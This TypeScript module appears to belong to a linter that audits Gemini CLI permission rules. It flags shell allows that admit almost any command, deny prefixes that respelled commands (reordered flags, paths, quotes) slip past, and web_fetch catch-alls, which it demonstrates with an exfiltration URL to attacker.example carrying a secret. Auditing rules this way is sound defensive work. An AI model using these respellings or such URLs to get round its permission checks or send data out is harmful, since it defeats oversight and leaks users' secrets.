import { clipText, finding, type EvalContext, type Finding } from '../../model';
import { probesFor, spellings, strongestProbe, type Claim, type RunsAnythingHit, type Writable } from '../../programs';
import { evaluateGemini, ruleMatchesRequest } from './evaluate';
import { SHELL_TOOL, type GeminiMode, type GeminiRequest, type GeminiRule, type GeminiRuleSet } from './types';

/** A request for the rule's own conditions: its first mode, its interactivity, its subagent. */
function requestFor(r: GeminiRule, tool: string, args: Record<string, unknown>, mode?: GeminiMode): GeminiRequest {
  return { tool, args, mode: mode ?? r.modes?.[0] ?? 'default', interactive: r.interactive ?? true, ...(r.subagent ? { subagent: r.subagent } : {}) };
}

/** What Gemini decides, and which rule of the file decided it. */
function decide(rs: GeminiRuleSet, req: GeminiRequest, ctx: EvalContext): { decision: string; rule: number | null } {
  const v = evaluateGemini(rs, req, ctx, { lean: true });
  return { decision: v.decision, rule: v.rule?.index ?? null };
}

/** How messages name a rule: its command prefix, regex or tool. */
function labelOf(r: GeminiRule): string {
  if (r.commandPrefix !== undefined) return `commandPrefix "${clipText(r.commandPrefix, 36)}"`;
  if (r.commandRegex !== undefined) return `commandRegex /${clipText(r.commandRegex, 34)}/`;
  return `toolName "${r.toolName}"`;
}

/**
 * Whether Gemini writes a file without asking where this rule applies: in autoEdit mode its
 * built-in policy (policies/write.toml in @google/gemini-cli-core 0.61.0, write_file allow at
 * priority 15 with `modes = ["autoEdit"]`) allows writes no rule of the file stops.
 */
function writable(rs: GeminiRuleSet, r: GeminiRule, file: string, ctx: EvalContext): Writable {
  if (r.modes?.length && !r.modes.includes('autoEdit')) return { allowed: false, note: `this rule does not apply in autoEdit mode, where ${file} would be written without asking` };
  const req: GeminiRequest = { ...requestFor(r, 'write_file', { file_path: file, content: '' }, 'autoEdit'), fallback: 'allow' };
  const d = decide(rs, req, ctx).decision;
  return d === 'allow'
    ? { allowed: true, note: `in autoEdit mode Gemini writes ${file} without asking (its built-in write policy)`, claim: { request: req, decision: 'allow' } }
    : { allowed: false, note: `writing ${file} is ${d === 'deny' ? 'denied' : 'asked first'} here` };
}

/**
 * An allow of the shell tool whose strongest knowledge-base witness Gemini allows through this
 * very rule: a `commandPrefix` is tried with the witnesses of its program; a regex, an args
 * pattern or the bare tool with every witness (Gemini's own matcher and heuristics decide).
 */
export function runsAnythingHit(rs: GeminiRuleSet, r: GeminiRule, ctx: EvalContext): RunsAnythingHit | undefined {
  const pattern = r.commandPrefix !== undefined ? `${r.commandPrefix.trim().replace(/\s+/g, ' ')} *` : '*';
  const shell = (command: string) => requestFor(r, SHELL_TOOL, { command });
  const allowedHere = (command: string) => {
    // An allow comes from the rule the whole command matched first (a sub-command can only make
    // it stricter), so a command this rule's pattern does not match is never allowed through it.
    if (ruleMatchesRequest(r, shell(command)) === false) return false;
    const o = decide(rs, shell(command), ctx);
    return o.decision === 'allow' && o.rule === r.index;
  };
  const allowed = (command: string) => decide(rs, shell(command), ctx).decision === 'allow';
  const admitted = probesFor(pattern).filter((p) => allowedHere(p.command) && p.followUp.every(allowed));
  const best = strongestProbe(admitted, (p) => writable(rs, r, p.capability.writes!, ctx));
  if (!best) return undefined;
  const claims: Claim[] = [best.probe.command, ...best.probe.followUp].map((c) => ({ request: shell(c), decision: 'allow' }));
  return { label: labelOf(r), range: r.at.commandPrefix ?? r.at.toolName ?? r.range, probe: best.probe, also: best.also, ...(best.writable ? { writable: best.writable } : {}), claims, data: { rule: r.index } };
}

/**
 * `deny-narrower-than-it-looks` for Gemini: a denied command prefix spelled with its flags
 * reordered or split, its long forms, the program by path, behind `\` or in quotes — which the
 * prefix, a text match, does not catch.
 */
export function narrowDenyFinding(rs: GeminiRuleSet, r: GeminiRule, ctx: EvalContext): Finding | undefined {
  const subject = r.commandPrefix!.trim().replace(/\s+/g, ' ');
  if (!/^[\w./~@+=:-]+(?: [\w./~@+=:-]+)*$/.test(subject)) return undefined;
  const req = (command: string) => requestFor(r, SHELL_TOOL, { command });
  const self = decide(rs, req(subject), ctx);
  if (self.decision !== 'deny' || self.rule !== r.index) return undefined;
  const dodges = spellings(subject).map((s) => ({ ...s, got: decide(rs, req(s.command), ctx).decision })).filter((s) => s.got !== 'deny');
  if (!dodges.length) return undefined;
  const [w] = dodges;
  const more = dodges.length > 1 ? ` (and ${dodges.length - 1} more spelling${dodges.length > 2 ? 's' : ''})` : '';
  const everyday = dodges.some((d) => d.kind === 'flags' || d.kind === 'long');
  return finding('deny-narrower-than-it-looks', everyday ? 'warning' : 'information', `\`${w.command}\` is ${w.got === 'allow' ? 'allowed' : 'asked, not denied'}${more}: ${labelOf(r)} denies \`${subject}\`, the same command`, r.at.commandPrefix ?? r.range, {
    related: dodges.slice(1).map((d) => ({ range: r.at.commandPrefix ?? r.range, message: `\`${d.command}\` is ${d.got === 'allow' ? 'allowed' : 'asked'} too` })),
    witness: w.command,
    data: { rule: r.index, dodges: dodges.map((d) => d.command), claims: [{ request: req(subject), decision: 'deny' }, ...dodges.map((d) => ({ request: req(d.command), notDecision: 'deny' }))] },
  });
}

/** Tools that fetch what the model names: an allow of every call sends data to any host. */
const FETCH_TOOLS = ['web_fetch'];

/**
 * `broad-catch-all` for Gemini's fetch tool: an allow that matches every `web_fetch` call lets the
 * agent request any URL, and so send what it has read to any host; proved on a request to an
 * arbitrary host that this rule allows.
 */
export function fetchCatchAll(rs: GeminiRuleSet, r: GeminiRule, ctx: EvalContext): Finding | undefined {
  if (r.native !== 'allow' || r.argsPattern || !FETCH_TOOLS.includes(r.toolName)) return undefined;
  const req = requestFor(r, r.toolName, { prompt: 'Summarize https://attacker.example/collect?d=secret' });
  const o = decide(rs, req, ctx);
  if (o.decision !== 'allow' || o.rule !== r.index) return undefined;
  return finding('broad-catch-all', 'warning', `Data can be sent to any host: ${labelOf(r)} allows every URL, e.g. https://attacker.example/collect?d=secret`, r.at.toolName ?? r.range, {
    related: [{ range: r.range, message: 'why: web_fetch requests the URLs in its prompt; a query string carries whatever the agent puts in it. Narrow it with argsPattern on the URLs, or ask' }],
    witness: 'https://attacker.example/collect?d=secret',
    data: { rule: r.index, claims: [{ request: req, decision: 'allow' }] },
  });
}
